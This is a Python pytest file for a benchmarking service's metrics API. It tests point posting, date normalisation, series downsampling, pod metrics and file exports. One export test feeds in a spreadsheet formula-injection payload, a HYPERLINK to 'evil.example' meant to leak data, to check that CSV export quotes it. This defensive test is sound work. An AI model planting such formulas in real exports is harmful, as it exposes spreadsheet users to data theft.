"""Metrics: posting points (JSON, forms, batches), values and dates on the way in and out, reading
series (since, metric_filter, last_n, max_points), pod resource series, and exports."""

from __future__ import annotations

import csv
import io
import json
import math
import zipfile
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
import sqlalchemy as sa

from distbench.store.engine import create_engine
from tests.api.helpers import (
    SEED_DATE,
    active_run,
    client,
    error_code,
    post_batch,
    run_series,
    start_run,
    wait_for,
    wait_for_pods,
    wait_for_state,
)
from tests.conftest import RunningServer

CPU = "container_cpu_usage_seconds_total"


@pytest.fixture
def http(server: RunningServer) -> Iterator[httpx.Client]:
    with client(server) as http:
        yield http


@pytest.fixture
def run_id(http: httpx.Client) -> int:
    run_id: int = start_run(http, name="metrics")["id"]
    return run_id


def at(second: int, micros: int = 0) -> str:
    return f"2018-08-03T09:21:{second:02d}.{micros:06d}Z"


def post_point(http: httpx.Client, **point: Any) -> dict[str, Any]:
    response = http.post("/api/metrics", json=point)
    assert response.status_code == 201, response.text
    saved: dict[str, Any] = response.json()
    return saved


# -- posting single points ---------------------------------------------------------------------


def test_post_json_answers_201_with_the_saved_point(http: httpx.Client, run_id: int) -> None:
    response = http.post(
        "/api/metrics/",
        json={"run_id": run_id, "name": "loss", "date": at(1), "value": 0.25, "cumulative": True},
    )

    assert response.status_code == 201
    assert response.json() == {
        "run_id": run_id,
        "name": "loss",
        "date": at(1),
        "value": "0.25",
        "cumulative": True,
        "metadata": "",
    }
    assert run_series(http, run_id) == {
        "loss": [{"date": at(1), "value": "0.25", "cumulative": True, "metadata": ""}]
    }


def test_post_form_as_mlbench_client_sent_it(http: httpx.Client, run_id: int) -> None:
    form = {
        "run_id": str(run_id),
        "name": "Prec@1",
        "date": at(2),
        "value": "0.7845",
        "cumulative": "False",
        "metadata": "epoch 1",
    }

    response = http.post("/api/metrics", data=form)

    assert response.status_code == 201, response.text
    assert response.json() == {**form, "run_id": run_id, "cumulative": False}


def test_post_multipart_form_reads_utf8_fields(http: httpx.Client, run_id: int) -> None:
    form = {"run_id": str(run_id), "name": "précision@1", "value": "0.5", "date": at(2)}

    response = http.post("/api/metrics", data=form, files={"ignored": ("f.txt", b"\xff")})

    assert response.status_code == 201, response.text
    assert response.json()["name"] == "précision@1"


def test_date_defaults_to_now(http: httpx.Client, run_id: int) -> None:
    saved = post_point(http, run_id=run_id, name="loss", value=1)

    assert SEED_DATE.match(saved["date"])
    assert saved["date"] > "2020-01-01T"


def test_with_pod_name_and_run_id_the_point_is_the_pods(http: httpx.Client, run_id: int) -> None:
    # As the seed's own example: both sent, the pod's point stored and answered.
    pod = wait_for_pods(http, run_id)[0]

    both = http.post(
        "/api/metrics", json={"run_id": run_id, "pod_name": pod, "name": "x", "value": 1}
    )
    batch = http.post(
        "/api/metrics/batch",
        json=[{"run_id": run_id, "pod_name": pod, "name": "y", "value": 2}],
    )
    neither = http.post("/api/metrics", json={"name": "x", "value": 1})

    assert (both.status_code, batch.status_code, neither.status_code) == (201, 201, 400)
    assert "run_id" not in both.json()
    assert both.json()["pod_name"] == pod
    assert run_series(http, run_id) == {}
    pod_series = http.get(f"/api/metrics/{pod}/").json()
    assert [p["value"] for p in pod_series["x"]] == ["1.0"]
    assert [p["value"] for p in pod_series["y"]] == ["2.0"]


def test_unknown_run_or_pod_is_404(http: httpx.Client) -> None:
    unknown_run = http.post("/api/metrics", json={"run_id": 41, "name": "x", "value": 1})
    unknown_pod = http.post("/api/metrics", json={"pod_name": "nope", "name": "x", "value": 1})

    assert (unknown_run.status_code, unknown_pod.status_code) == (404, 404)
    assert error_code(unknown_run) == error_code(unknown_pod) == "not_found"


def test_an_ended_run_still_accepts_points(
    http: httpx.Client, server: RunningServer, run_id: int
) -> None:
    wait_for_pods(http, run_id)
    server.fake.finish(run_id)
    wait_for_state(http, run_id, "FINISHED")

    post_point(http, run_id=run_id, name="late", value=3)

    assert [p["value"] for p in run_series(http, run_id)["late"]] == ["3.0"]


# -- values ------------------------------------------------------------------------------------


# Value sent -> value shown; one server for all (starting one per case is what costs).
VALUES = {"nan": "nan", "inf": "inf", "-inf": "-inf", "1e3": "1000.0", "0.188236813": "0.188236813"}
# Neither a number nor text: empty or blank text, booleans, null, lists, objects.
NOT_VALUES = ["", "  ", True, None, [1], {"v": 1}]
# Text that is not ASCII number text: kept as text, exactly as posted. MLBench's TaskResult
# sentence; what float() reads but the API does not (underscores, other scripts' digits);
# text that only looks like a number ("0.5%", "1,5").
TEXTS = [
    "Reached the target accuracy of 80.0% in 123.45 s",
    "1_000",
    "\u0661\u0662",
    "\uff11",
    "0.5%",
    "1,5",
    ' padded "quoted" text\nwith a newline ',
    "=HYPERLINK(1)",
    "x" * 10_000,
]


def test_value_round_trip(http: httpx.Client, run_id: int) -> None:
    for sent, shown in VALUES.items():
        saved = post_point(http, run_id=run_id, name=f"m{sent}", date=at(1), value=sent)

        assert saved["value"] == shown, sent
        assert run_series(http, run_id)[f"m{sent}"][0]["value"] == shown, sent


def test_value_that_is_neither_a_number_nor_text_is_400(http: httpx.Client, run_id: int) -> None:
    for value in NOT_VALUES:
        response = http.post("/api/metrics", json={"run_id": run_id, "name": "x", "value": value})

        assert response.status_code == 400, value
        assert error_code(response) == "invalid_input"
    assert run_series(http, run_id) == {}


def test_values_are_stored_as_floating_point(server: RunningServer, http: httpx.Client) -> None:
    run_id = start_run(http)["id"]
    post_point(http, run_id=run_id, name="loss", value="0.5")

    engine = create_engine(server.settings.database_url)
    try:
        columns = {c["name"]: c["type"] for c in sa.inspect(engine).get_columns("metrics")}
        with engine.connect() as conn:
            stored = conn.execute(
                sa.text("SELECT value FROM metrics WHERE name = 'loss'")
            ).scalar_one()
    finally:
        engine.dispose()
    assert isinstance(columns["value"], sa.Float)
    assert type(stored) is float
    assert stored == 0.5


def stored_columns(server: RunningServer, name: str) -> list[tuple[Any, Any]]:
    """``(value, text_value)`` of the stored points named ``name``, read from the database."""
    engine = create_engine(server.settings.database_url)
    try:
        with engine.connect() as conn:
            rows = conn.execute(
                sa.text("SELECT value, text_value FROM metrics WHERE name = :name ORDER BY id"),
                {"name": name},
            ).all()
    finally:
        engine.dispose()
    return [tuple(row) for row in rows]


def test_text_values_are_stored_as_posted(server: RunningServer, http: httpx.Client) -> None:
    run_id = start_run(http)["id"]
    pod = wait_for_pods(http, run_id)[0]

    for index, text in enumerate(TEXTS):
        saved = post_point(http, run_id=run_id, name=f"t{index}", date=at(1), value=text)
        assert saved["value"] == text
    post_batch(http, [{"run_id": run_id, "name": "batch", "date": at(2), "value": TEXTS[0]}])
    pod_saved = post_point(http, pod_name=pod, name="note", date=at(3), value="warm")

    series = run_series(http, run_id)
    assert [series[f"t{index}"][0]["value"] for index in range(len(TEXTS))] == TEXTS
    assert series["batch"][0]["value"] == TEXTS[0]
    assert pod_saved["value"] == "warm"
    assert http.get(f"/api/metrics/{pod}/").json()["note"] == [{"date": at(3), "value": "warm"}]
    assert http.get("/api/metrics/").json()[pod]["note"] == [{"date": at(3), "value": "warm"}]
    # In its own column; value stays NULL (as for NaN, which text_value tells apart).
    assert stored_columns(server, "t0") == [(None, TEXTS[0])]


def test_task_result_posted_as_mlbench_workers_post_it(http: httpx.Client, run_id: int) -> None:
    # MLBench's post_metric: a form, value=str(value), cumulative and date as Python's str().
    sentence = "Goal reached: Val Prec@1 80.02 % after 12 epochs in 345.6 s"
    form = {
        "run_id": str(run_id),
        "name": "TaskResult @ 0",
        "cumulative": "False",
        "date": "2018-08-03 09:21:38.594282",
        "value": sentence,
        "metadata": "",
    }

    response = http.post("/api/metrics", data=form)

    assert response.status_code == 201, response.text
    assert response.json()["value"] == sentence
    assert run_series(http, run_id)["TaskResult @ 0"] == [
        {
            "date": "2018-08-03T09:21:38.594282Z",
            "value": sentence,
            "cumulative": False,
            "metadata": "",
        }
    ]


def test_number_text_stays_a_number(server: RunningServer, http: httpx.Client) -> None:
    run_id = start_run(http)["id"]
    for text, number in (
        (" 1e3 ", 1000.0),
        ("-0.5", -0.5),
        ("NaN", None),
        ("-Infinity", -math.inf),
    ):
        post_point(http, run_id=run_id, name=f"n{text}", date=at(1), value=text)

        assert stored_columns(server, f"n{text}") == [(number, None)], text


def test_text_points_are_left_out_of_downsampling(http: httpx.Client, run_id: int) -> None:
    points = spiky_series(run_id, 1000)
    for index in (0, 300, 999):  # the first, one between the spikes, the last
        points[index] = {**points[index], "value": f"note {index}"}
    post_batch(http, points)

    downsampled = run_series(http, run_id, max_points=40)["loss"]
    newest = run_series(http, run_id, max_points=40, last_n=900)["loss"]
    short = run_series(http, run_id, last_n=3, max_points=10)["loss"]

    for series in (downsampled, newest):
        values = [p["value"] for p in series]
        assert 2 <= len(values) <= 40
        assert not [value for value in values if value.startswith("note")]
        assert {"1000.0", "-1000.0"} <= set(values)
    # A series no longer than max_points comes back whole, its text included.
    assert [p["value"] for p in short][-1] == "note 999"


def test_a_series_of_text_only_downsampled_is_its_first_points(
    http: httpx.Client, run_id: int
) -> None:
    post_batch(
        http,
        [
            {"run_id": run_id, "name": "log", "date": at(s, m), "value": f"line {s}.{m}"}
            for s in range(10)
            for m in range(5)
        ],
    )

    for params in ({"max_points": 4}, {"max_points": 4, "last_n": 20}):
        points = run_series(http, run_id, **params)["log"]

        assert len(points) == 4
        assert all(p["value"].startswith("line ") for p in points)


# -- dates -------------------------------------------------------------------------------------


# Date sent -> date shown: every ISO 8601 form in, UTC with microseconds and Z out.
DATES = {
    "2018-08-03T11:21:38.594282+02:00": "2018-08-03T09:21:38.594282Z",
    "2018-08-03T04:51:38.5-04:30": "2018-08-03T09:21:38.500000Z",
    "2018-08-03T09:21:38+00:00": "2018-08-03T09:21:38.000000Z",
    "2018-08-03T09:21:38Z": "2018-08-03T09:21:38.000000Z",
    "2018-08-03T09:21:38.594282": "2018-08-03T09:21:38.594282Z",
    "2018-08-03 09:21:38": "2018-08-03T09:21:38.000000Z",
}


def test_dates_are_normalised_to_utc(http: httpx.Client, run_id: int) -> None:
    for index, (sent, shown) in enumerate(DATES.items()):
        saved = post_point(http, run_id=run_id, name=f"m{index}", date=sent, value=1)

        assert saved["date"] == shown, sent
        assert run_series(http, run_id)[f"m{index}"][0]["date"] == shown, sent


def test_unparsable_date_is_400(http: httpx.Client, run_id: int) -> None:
    response = http.post(
        "/api/metrics", json={"run_id": run_id, "name": "loss", "date": "yesterday", "value": 1}
    )

    assert response.status_code == 400
    assert http.get(f"/api/metrics/{run_id}/", params={"since": "yesterday"}).status_code == 400


# -- reading series ----------------------------------------------------------------------------


def test_since_is_strictly_newer(http: httpx.Client, run_id: int) -> None:
    post_batch(
        http, [{"run_id": run_id, "name": "loss", "date": at(s), "value": s} for s in (1, 2, 3)]
    )

    newer = run_series(http, run_id, since=at(2))["loss"]

    assert [p["date"] for p in newer] == [at(3)]
    # A client polling with the last date it saw never gets that point again.
    assert run_series(http, run_id, since=at(3)).get("loss", []) == []
    # The same instant written with an offset means the same thing.
    assert [
        p["date"] for p in run_series(http, run_id, since="2018-08-03T11:21:02+02:00")["loss"]
    ] == [at(3)]


def test_metric_filter(http: httpx.Client, run_id: int) -> None:
    post_batch(
        http,
        [
            {"run_id": run_id, "name": "loss", "date": at(1), "value": 1},
            {"run_id": run_id, "name": "accuracy", "date": at(1), "value": 0.5},
        ],
    )

    series = run_series(http, run_id, metric_filter="accuracy")

    assert list(series) == ["accuracy"]
    assert series["accuracy"][0]["value"] == "0.5"


def test_last_n(http: httpx.Client, run_id: int) -> None:
    post_batch(
        http, [{"run_id": run_id, "name": "loss", "date": at(s), "value": s} for s in range(10)]
    )

    newest = run_series(http, run_id, last_n=3)["loss"]

    assert [p["date"] for p in newest] == [at(7), at(8), at(9)]


def spiky_series(run_id: int, length: int) -> list[dict[str, Any]]:
    """A gentle series with one spike up and one dip down, at unevenly spaced dates."""
    points = []
    for index in range(length):
        value = 1.0 + (index % 7) / 100
        if index == 617:
            value = 1000.0
        elif index == 211:
            value = -1000.0
        date = at(index // 100, (index % 100) ** 2 * 10)
        points.append({"run_id": run_id, "name": "loss", "date": date, "value": value})
    return points


@pytest.mark.parametrize("params", [{}, {"last_n": 900}])
def test_max_points_keeps_the_spikes(
    http: httpx.Client, run_id: int, params: dict[str, int]
) -> None:
    post_batch(http, spiky_series(run_id, 1000))

    points = run_series(http, run_id, max_points=40, **params)["loss"]

    assert 2 <= len(points) <= 40
    values = [float(p["value"]) for p in points]
    assert 1000.0 in values
    assert -1000.0 in values
    dates = [p["date"] for p in points]
    assert dates == sorted(dates)
    assert len(set(dates)) == len(dates)


def test_max_points_leaves_short_series_alone(http: httpx.Client, run_id: int) -> None:
    post_batch(
        http, [{"run_id": run_id, "name": "loss", "date": at(s), "value": s} for s in range(5)]
    )

    assert len(run_series(http, run_id, max_points=10)["loss"]) == 5


def test_run_and_pod_ids_that_do_not_exist_are_404(http: httpx.Client) -> None:
    assert http.get("/api/metrics/5/", params={"metric_type": "run"}).status_code == 404
    assert http.get("/api/metrics/no-such-pod/").status_code == 404
    assert http.get("/api/metrics/abc/", params={"metric_type": "run"}).status_code == 400


# -- batches -----------------------------------------------------------------------------------


def test_batch_stores_every_point(http: httpx.Client, run_id: int) -> None:
    pod = wait_for_pods(http, run_id)[0]
    points = [
        {"run_id": run_id, "name": "loss", "date": at(1), "value": 0.5},
        {"run_id": run_id, "name": "loss", "date": at(2), "value": "0.25"},
        {"pod_name": pod, "name": "custom", "date": at(1), "value": 7},
    ]

    post_batch(http, points)

    assert [p["value"] for p in run_series(http, run_id)["loss"]] == ["0.5", "0.25"]
    assert http.get(f"/api/metrics/{pod}/").json()["custom"] == [{"date": at(1), "value": "7.0"}]


def test_batch_with_an_unknown_run_stores_nothing(http: httpx.Client, run_id: int) -> None:
    points = [{"run_id": run_id, "name": "loss", "date": at(s), "value": s} for s in range(5)]
    points.insert(3, {"run_id": run_id + 100, "name": "loss", "date": at(9), "value": 9})

    response = http.post("/api/metrics/batch", json=points)

    assert response.status_code == 404
    assert response.json()["error"]["details"]["run_ids"] == [run_id + 100]
    assert run_series(http, run_id) == {}


def test_batch_with_one_bad_point_stores_nothing(http: httpx.Client, run_id: int) -> None:
    points = [{"run_id": run_id, "name": "loss", "date": at(s), "value": s} for s in range(5)]
    points[-1]["value"] = True

    response = http.post("/api/metrics/batch", json=points)

    assert response.status_code == 400
    assert run_series(http, run_id) == {}


# -- pod resource metrics ----------------------------------------------------------------------


def test_collector_samples_running_pods_and_history_outlives_them(
    http: httpx.Client, server: RunningServer
) -> None:
    run = active_run(http, num_workers=2)
    pods = run["job_metadata"]["pods"]

    def sampled_twice() -> dict[str, Any] | None:
        body: dict[str, Any] = http.get("/api/metrics/").json()
        return body if all(len(body.get(pod, {}).get(CPU, [])) >= 2 for pod in pods) else None

    every_pod = wait_for(sampled_twice, what="two collector samples of every pod")
    assert set(every_pod) == set(pods)
    for series in every_pod.values():
        for point in series[CPU]:
            assert set(point) == {"date", "value"}
            assert SEED_DATE.match(point["date"])
            float(point["value"])

    server.fake.finish(run["id"])
    wait_for_state(http, run["id"], "FINISHED")
    after_end = http.get(f"/api/metrics/{pods[0]}/")

    assert after_end.status_code == 200
    assert len(after_end.json()[CPU]) >= 2
    assert set(http.get("/api/metrics").json()) == set(pods)


def test_every_pod_metrics_is_empty_without_pods(http: httpx.Client) -> None:
    response = http.get("/api/metrics/")

    assert response.status_code == 200
    assert response.json() == {}


# -- exports -----------------------------------------------------------------------------------


@pytest.fixture
def exported_run(http: httpx.Client, run_id: int) -> int:
    wait_for_pods(http, run_id)
    post_batch(
        http,
        [
            {"run_id": run_id, "name": "loss", "date": at(1), "value": 0.5, "metadata": "a,b"},
            {"run_id": run_id, "name": "loss", "date": at(2), "value": 0.25},
            {"run_id": run_id, "name": "Prec@1", "date": at(2), "value": 70, "cumulative": True},
        ],
    )
    return run_id


def export(http: httpx.Client, run_id: int, fmt: str) -> httpx.Response:
    response = http.get(f"/api/metrics/{run_id}/", params={"metric_type": "run", "format": fmt})
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"].startswith("attachment;")
    return response


def test_export_csv(http: httpx.Client, exported_run: int) -> None:
    response = export(http, exported_run, "csv")

    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert {(row["metric"], row["date"], row["value"], row["metadata"]) for row in rows} == {
        ("loss", at(1), "0.5", "a,b"),
        ("loss", at(2), "0.25", ""),
        ("Prec@1", at(2), "70.0", ""),
    }
    assert {row["run_id"] for row in rows} == {str(exported_run)}


def test_export_json(http: httpx.Client, exported_run: int) -> None:
    response = export(http, exported_run, "json")

    assert json.loads(response.content) == run_series(http, exported_run)


def test_export_zip(http: httpx.Client, exported_run: int) -> None:
    response = export(http, exported_run, "zip")

    assert response.headers["content-type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        names = set(archive.namelist())
        stem = f"run-{exported_run}"
        assert {f"{stem}/official_result.txt", f"{stem}/loss.json", f"{stem}/Prec@1.json"} <= names
        assert f"run {exported_run}" in archive.read(f"{stem}/official_result.txt").decode()
        loss = json.loads(archive.read(f"{stem}/loss.json"))
    assert [p["value"] for p in loss] == ["0.5", "0.25"]


def test_export_csv_and_json_carry_text_values(http: httpx.Client, exported_run: int) -> None:
    texts = ["Goal reached, at last", "=HYPERLINK(1)"]
    post_batch(
        http,
        [
            {"run_id": exported_run, "name": "TaskResult", "date": at(3 + i), "value": text}
            for i, text in enumerate(texts)
        ],
    )

    rows = list(csv.DictReader(io.StringIO(export(http, exported_run, "csv").text)))
    exported = json.loads(export(http, exported_run, "json").content)

    # Text is guarded against formulas like the other text cells; numbers are left alone.
    assert [row["value"] for row in rows if row["metric"] == "TaskResult"] == [
        "Goal reached, at last",
        "'=HYPERLINK(1)",
    ]
    assert [p["value"] for p in exported["TaskResult"]] == texts
    assert exported == run_series(http, exported_run)


def test_export_csv_quotes_formulas_in_text_cells_and_leaves_numbers(
    http: httpx.Client, run_id: int
) -> None:
    formula = '=HYPERLINK("https://evil.example/?leak","open me")'
    starts = [formula, "+1+1", "-2-2", "@SUM(A1)", "\tlead tab", "\rlead cr"]
    points = [
        {"run_id": run_id, "name": name, "date": at(1), "value": -1.5, "metadata": "=1+1"}
        for name in starts
    ]
    post_batch(http, [*points, {"run_id": run_id, "name": "loss", "date": at(1), "value": -2}])

    response = export(http, run_id, "csv")

    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert {row["metric"]: (row["value"], row["metadata"]) for row in rows} == {
        **{f"'{name}": ("-1.5", "'=1+1") for name in starts},
        "loss": ("-2.0", ""),
    }
